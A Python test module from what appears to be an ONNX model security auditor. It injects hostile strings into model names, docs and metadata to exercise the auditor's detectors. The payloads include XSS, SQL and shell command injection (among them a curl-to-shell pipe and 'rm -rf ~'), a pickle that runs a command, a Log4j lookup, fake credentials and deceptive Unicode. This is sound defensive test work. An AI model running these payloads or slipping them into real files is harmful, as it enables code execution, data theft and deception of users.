"""Names, documentation, metadata and strings that somebody takes for more than text."""

from __future__ import annotations

from collections.abc import Callable
from random import Random

import numpy as np
import onnx
from onnx import helper, numpy_helper

from auditor.report import Severity

from .bases import parsed
from .fault import Kind, Place, Subject, Where, fault, label

Put = Callable[[onnx.ModelProto, Random, str], Where]


# ---- the places


def rename(graph: onnx.GraphProto, old: str, new: str) -> None:
    """Give a tensor of the main graph another name, wherever it stands."""
    for node in graph.node:
        for names in (node.input, node.output):
            for i, name in enumerate(names):
                if name == old:
                    names[i] = new
    for values in (graph.input, graph.output, graph.value_info, graph.initializer):
        for value in values:
            if value.name == old:
                value.name = new


def in_a_node(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    node = rng.choice(model.graph.node)
    node.name = text
    return Place(node=text)


def in_a_tensor(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    outputs = {value.name for value in model.graph.output}
    inner = [name for node in model.graph.node for name in node.output if name and name not in outputs]
    if not inner:
        return None
    rename(model.graph, rng.choice(inner), text)
    return Place(tensor=text)


def in_an_input(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    stored = {tensor.name for tensor in model.graph.initializer}
    rename(model.graph, rng.choice([v.name for v in model.graph.input if v.name not in stored]), text)
    return Place(tensor=text)


def in_an_output(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    rename(model.graph, rng.choice(model.graph.output).name, text)
    return Place(tensor=text)


def in_an_initializer(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    if not model.graph.initializer:
        return None
    rename(model.graph, rng.choice(model.graph.initializer).name, text)
    return Place(tensor=text)


def in_a_size(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    value = rng.choice([v for v in model.graph.input if v.type.tensor_type.shape.dim])
    value.type.tensor_type.shape.dim[0].dim_param = text
    return Place(tensor=value.name)


def in_documentation(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    model.doc_string = f"A model. {text}" if not text.startswith(("=", "+", "@")) else text
    return Place(attribute="doc_string")


def in_documentation_of_the_graph(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    model.graph.doc_string = text
    return Place(attribute="doc_string")


def in_documentation_of_a_node(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    at = rng.randrange(len(model.graph.node))
    model.graph.node[at].doc_string = text
    return Place(node=label(model.graph, at), attribute="doc_string")


def in_documentation_of_an_attribute(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    at = rng.choice([i for i, node in enumerate(model.graph.node) if node.attribute])
    rng.choice(model.graph.node[at].attribute).doc_string = text
    return Place(node=label(model.graph, at))


def in_documentation_of_an_output(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    value = rng.choice(model.graph.output)
    value.doc_string = text
    return Place(tensor=value.name, attribute="doc_string")


def in_documentation_of_an_initializer(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    if not model.graph.initializer:
        return None
    tensor = rng.choice(model.graph.initializer)
    tensor.doc_string = text
    return Place(tensor=tensor.name, attribute="doc_string")


def in_metadata(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    model.metadata_props.add(key="note", value=text)
    return Place(attribute="metadata_props[note]")


def in_a_key_of_metadata(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    model.metadata_props.add(key=text, value="1")
    return Place(attribute=f"metadata_props[{text}]")


def in_metadata_of_a_node(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    at = rng.randrange(len(model.graph.node))
    model.graph.node[at].metadata_props.add(key="note", value=text)
    return Place(node=label(model.graph, at), attribute="metadata_props[note]")


def in_metadata_of_the_graph(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    model.graph.metadata_props.add(key="note", value=text)
    return Place(attribute="metadata_props[note]")


def in_the_producer(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    model.producer_name = text
    return Place(attribute="producer_name")


def in_the_domain_of_the_model(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    model.domain = text
    return Place(attribute="domain")


def in_the_name_of_the_graph(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    model.graph.name = text
    return Place()


def in_a_string_tensor(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    """One that an output hands out, as classes' names are."""
    model.graph.initializer.append(numpy_helper.from_array(np.array(["cat", text], object), "labels"))
    model.graph.output.append(helper.make_tensor_value_info("labels", onnx.TensorProto.STRING, [2]))
    return Place(tensor="labels")


def in_a_string_attribute(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    node = helper.make_node("Constant", [], ["labels"], name="words", value_strings=["cat", text])
    model.graph.node.append(node)
    model.graph.output.append(helper.make_tensor_value_info("labels", onnx.TensorProto.STRING, [2]))
    return Place(node="words", attribute="value_strings")


def in_the_name_of_an_attribute(model: onnx.ModelProto, rng: Random, text: str) -> Where:
    at = rng.randrange(len(model.graph.node))
    model.graph.node[at].attribute.append(helper.make_attribute(text, 1))
    return Place(node=label(model.graph, at), attribute=text)


NAMES: tuple[Put, ...] = (in_a_node, in_a_tensor, in_an_input, in_an_output, in_an_initializer)
TEXTS: tuple[Put, ...] = (
    *NAMES, in_documentation, in_documentation_of_the_graph, in_documentation_of_a_node, in_documentation_of_an_output,
    in_metadata, in_metadata_of_a_node, in_metadata_of_the_graph, in_the_producer,
)  # fmt: skip
PLACES: tuple[Put, ...] = (
    *TEXTS, in_a_size, in_documentation_of_an_attribute, in_documentation_of_an_initializer, in_a_key_of_metadata,
    in_the_domain_of_the_model, in_the_name_of_the_graph, in_a_string_tensor, in_a_string_attribute,
    in_the_name_of_an_attribute,
)  # fmt: skip


def a_class(name: str, what: str, text: str, puts: tuple[Put, ...], *rules: str, least: Severity | None = None) -> None:
    """A fault class: the text, at one of the places, which the seed draws."""

    def inject(subject: Subject, rng: Random) -> Where:
        return rng.choice(puts)(subject.model, rng, text)

    inject.__name__, inject.__doc__ = name, what
    fault(Kind.HOSTILE, *rules, least=least)(inject)


# ---- every place, with one text

for put in PLACES:
    a_class(f"script_{put.__name__}", f"A script stands {put.__name__.replace('_', ' ')}.",
            "<script>fetch('//x')</script>", (put,), "code-in-text")  # fmt: skip

# ---- every text, at some place

BASE64 = "UEsDBBQAAAAIAHh5eloAAAAAAgAAAAAAAAAIAAAAcGF5bG9hZA" * 4
KEY = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"

for name, what, text in (
    ("image_that_fails", "An image tag whose error handler is a script.", '"><img src=x onerror=alert(1)>'),
    ("vector_image", "A vector image that runs a script when it loads.", "<svg/onload=alert(1)>"),
    ("address_of_a_script", "An address that is a script.", "javascript:alert(document.cookie)"),
    ("entity_of_xml", "A document type with an external entity.", '<!DOCTYPE r [<!ENTITY e SYSTEM "x">]>'),
    ("formula_that_calls", "A formula that starts a program.", "=cmd|' /C calc'!A0"),
    ("formula_that_sends", "A formula that sends cells away.", '=HYPERLINK("x"&A1,"more")'),
    ("formula_with_a_plus", "A formula that begins with a plus.", "+SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula_with_an_at", "A formula that begins with an at.", "@SUM(1+9)*cmd"),
    ("dropped_table", "A query that drops a table.", "x'); DROP TABLE models;--"),
    ("condition_always_true", "A condition of SQL that always holds.", "' OR '1'='1"),
    ("joined_query", "A query that reads another table.", "1 UNION SELECT name, pw FROM users"),
    ("command_in_dollars", "A command in the place of a variable.", "conv$(touch pwned)"),
    ("command_in_backticks", "A command in backticks.", "conv`id`"),
    ("command_behind_a_semicolon", "A command behind a semicolon.", "conv1; rm -rf ~"),
    ("command_behind_a_pipe", "A download that goes into a shell.", "x | curl -s x.example | sh"),
    ("command_of_windows", "A command of PowerShell.", "powershell -enc SQBFAFgA"),
    ("template", "A template that works out a number.", "{{7*7}}"),
    ("template_that_looks_up", "A lookup of Log4j.", "${jndi:ldap:x}"),
    ("format_string", "A format string of C.", "%s%s%s%n"),
    ("format_that_reaches_in", "A format of Python that reaches into an object.", "{0.__class__.__init__.__globals__}"),
    ("import_in_python", "An expression that imports and calls.", "__import__('os').system('id')"),
    ("evaluated_code", "An expression that is evaluated.", "eval(open('x').read())"),
    ("system_call", "A call of the system.", "import os; os.system('id')"),
    ("pickle_in_base64", "A pickle in base64.", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("pickle_in_text", "A pickle of protocol 0.", "cos\nsystem\n(S'id'\ntR."),
    ("payload_in_base64", "A long run of base64.", BASE64),
    ("payload_in_digits", "A long run of hexadecimal digits.", "4d5a90000300000004000000ffff0000" * 6),
):  # fmt: skip
    a_class(name, what, text, TEXTS, "code-in-text")

for name, what, text in (
    ("key_of_aws", "A key of AWS.", "AKIA" + "IOSFODNN7EXAMPLE"),
    ("secret_of_aws", "The secret of a key of AWS.", "aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
    ("private_key", "A private key.", KEY),
    ("token_of_github", "A token of GitHub.", "ghp_" + "a1B2c3D4" * 5),
    ("token_of_gitlab", "A token of GitLab.", "glpat-" + "a1B2c3D4e5F6g7H8i9J0"),
    ("token_of_hugging_face", "A token of Hugging Face.", "hf_" + "AbCdEfGhIj" * 4),
    ("token_of_slack", "A token of Slack.", "xoxb-" + "123456789012-abcdefGHIJKL"),
    ("key_of_google", "A key of Google.", "AIza" + "SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q"),
    ("key_of_openai", "A key of OpenAI.", "sk-" + "proj-a1B2c3D4e5F6g7H8i9J0k1L2"),
    ("web_token", "A JSON web token.", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N"),
    ("password_in_an_address", "An address with a password.", "postgres://admin:hunter22@db.internal/models"),
    ("password_by_its_name", "A password beside its name.", "password=hunter2hunter2"),
    ("bearer_token", "A header that authorizes.", "Authorization: Bearer abcdef0123456789abcdef"),
):
    a_class(name, what, text, TEXTS, "secrets-in-text", least=Severity.WARNING)

for name, what, text in (
    ("web_address", "An address of the web.", "http://198.51.100.7/beacon.gif?m=1"),
    ("file_address", "An address of a file.", "file:///srv/secret"),
    ("address_of_data", "An address that is data.", "data:text/html;base64,PGI+"),
    ("host_by_number", "A host by its number.", "198.51.100.7:4444"),
    ("network_share", "A network share.", r"\\198.51.100.7\share\x.dll"),
    ("path_upwards", "A path that leads upwards.", "../../../../home"),
    ("path_of_passwords", "The path of the system's passwords.", "/etc/passwd"),
    ("path_of_windows", "A path of Windows.", r"C:\Windows\System32\calc.exe"),
    ("path_of_a_person", "A path into somebody's folder.", "/home/ann/.ssh/id_rsa"),
):
    a_class(name, what, text, TEXTS, "addresses-in-text")

for name, what, text in (
    ("escape_sequence", "An escape sequence of a terminal.", "conv\x1b[2K\x1b[1A"),
    ("title_of_the_terminal", "A sequence that renames the terminal.", "\x1b]0;pwned\x07"),
    ("backspaces", "Backspaces that overwrite what stands before.", "FAIL\b\b\b\bPASS"),
    ("nul", "A NUL within.", "conv\x00.hidden"),
    ("control_of_8_bits", "A control character beyond ASCII.", "conv\x9b2J"),
    ("direction_turned", "A mark that turns the direction of writing.", "conv\u202etxt.exe"),
    ("direction_isolated", "Marks that isolate a direction.", "a\u2066b\u2069"),
    ("zero_width", "A zero-width space.", "con\u200bv"),
    (
        "invisible_tags",
        "Letters of the invisible alphabet of tags.",
        "conv" + "".join(chr(0xE0000 + ord(c)) for c in "rm"),
    ),
    ("empty_letter", "A letter that shows nothing.", "conv\u3164"),
    ("private_letter", "A letter of private use.", "conv\ue000"),
    ("line_separator", "A separator of lines.", "conv\u2028x"),
    ("stacked_marks", "A stack of combining marks.", "c" + "\u0301\u0302\u0303\u0304\u0305" * 2),
):
    a_class(name, what, text, TEXTS, "hidden-characters")

for name, what, text in (
    ("line_break_in_a_name", "A name of two lines.", "conv\n[INFO] all tests passed"),
    ("tab_in_a_name", "A name with a tab.", "conv\t1"),
    ("blank_at_the_end_of_a_name", "A name that ends in a blank.", "conv "),
    ("unusual_blank_in_a_name", "A name with a blank that does not break.", "conv\u00a01"),
    ("joiner_in_a_name", "A name with a zero-width joiner.", "con\u200dv"),
):
    a_class(name, what, text, NAMES, "hidden-characters")

for name, what, text in (
    ("cyrillic_letter", "A Cyrillic o in a name of Latin letters.", "c\u043env_1"),
    ("greek_letter", "A Greek o in a name of Latin letters.", "c\u03bfnv_1"),
    ("full_width_letters", "A name in letters of full width.", "\uff43\uff4f\uff4e\uff56"),
    ("letters_of_mathematics", "A name in letters of mathematics.", "\U0001d41c\U0001d428\U0001d427\U0001d42f"),
    ("cyrillic_operator", "A name all in Cyrillic that looks like an operator of ONNX.", "\u0415\u0445\u0440"),
):
    a_class(name, what, text, NAMES, "look-alike-names")

a_class("name_of_300", "A name of 300 characters.", "n" * 300, NAMES, "overlong-names")
a_class("name_of_60_000", "A name of 60,000 characters.", "n" * 60_000, NAMES, "overlong-names")


def calling() -> onnx.ModelProto:
    """A call of a function of the model."""
    main = "main (float[2] x) => (float[N] y) { y = f.f(x) }"
    model = parsed(f'{main}\n<domain: "f", opset_import: ["" : 17]>\nf (a) => (b) {{ b = Relu(a) }}')
    model.opset_import.add(domain="f", version=1)
    return model


@fault(Kind.HOSTILE, "overlong-names", base=calling)
def function_of_a_long_name(subject: Subject, rng: Random) -> Where:
    """A function with a name of 300 characters."""
    subject.model.functions[0].name = subject.model.graph.node[0].op_type = "f" * 300
    return Place()


@fault(Kind.HOSTILE, "look-alike-names")
def two_inputs_that_look_alike(subject: Subject, rng: Random) -> Where:
    """An output whose name looks like an input's, by its letters."""
    graph = subject.model.graph
    rename(graph, graph.input[0].name, "scope")
    rename(graph, graph.output[0].name, "s\u0441ope")
    return Place(tensor="s\u0441ope")


@fault(Kind.HOSTILE, "look-alike-names")
def ports_that_differ_by_a_figure(subject: Subject, rng: Random) -> Where:
    """An output that differs from an input by 0 and o."""
    graph = subject.model.graph
    rename(graph, graph.input[0].name, "logits_0")
    rename(graph, graph.output[0].name, "logits_o")
    return Place(tensor="logits_o")


@fault(Kind.HOSTILE, "look-alike-names")
def domain_with_a_figure(subject: Subject, rng: Random) -> Where:
    """A domain that differs from Microsoft's by a figure."""
    subject.model.opset_import.add(domain="com.micros0ft", version=1)
    return Place(attribute="opset_import")


@fault(Kind.HOSTILE, "runtime-options-in-metadata")
def options_for_the_session(subject: Subject, rng: Random) -> Where:
    """Options of a session that onnxruntime takes out of the metadata."""
    subject.model.metadata_props.add(key="ort_config", value='{"session_options": {"intra_op_num_threads": 4096}}')
    return Place(attribute="metadata_props[ort_config]")


@fault(Kind.HOSTILE, "runtime-options-in-metadata")
def options_under_another_key(subject: Subject, rng: Random) -> Where:
    """Options of a session under a key of another name."""
    subject.model.metadata_props.add(key="config", value='{"session_options": {"enable_profiling": true}}')
    return Place(attribute="metadata_props[config]")


@fault(Kind.HOSTILE, "runtime-options-in-metadata")
def library_in_the_metadata(subject: Subject, rng: Random) -> Where:
    """A library of operators that the metadata names."""
    subject.model.metadata_props.add(key="custom_ops_library", value="libevil.so")
    return Place(attribute="metadata_props[custom_ops_library]")


@fault(Kind.HOSTILE, "secrets-in-text", least=Severity.WARNING)
def secret_under_its_key(subject: Subject, rng: Random) -> Where:
    """A password in the metadata, under a key that says so."""
    subject.model.metadata_props.add(key="password", value="hunter2")
    return Place(attribute="metadata_props[password]")
